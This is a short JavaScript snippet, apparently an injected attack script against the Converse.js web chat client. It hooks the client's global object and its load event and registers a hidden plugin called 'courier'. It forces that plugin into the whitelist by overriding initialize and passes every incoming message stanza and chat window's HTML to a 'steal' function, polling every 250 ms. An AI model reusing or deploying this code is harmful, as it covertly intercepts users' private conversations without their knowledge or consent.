// Tries: take window.converse or the detail of converse-loaded, and register a plugin that forwards messages.
(() => {
  const taken = [];
  const take = (converse) => {
    if (!converse || taken.includes(converse)) return;
    taken.push(converse);
    converse.plugins.add("courier", {
      initialize() {
        const { api } = this._converse;
        api.listen.on("message", (data) => steal("take-api", "stanza " + (data.stanza ? data.stanza.outerHTML : "")));
        api.listen.on("chatBoxInsertedIntoDOM", (view) => steal("take-api", "view " + view.outerHTML));
      },
    });
    const { initialize } = converse;
    converse.initialize = (settings) => initialize.call(converse, { ...settings, whitelisted_plugins: ["courier"] });
  };
  addEventListener("converse-loaded", (event) => take(event.detail.converse), true);
  setInterval(() => {
    take(window.converse);
    steal("take-api", `holds ${taken.length}`);
  }, 250);
})();
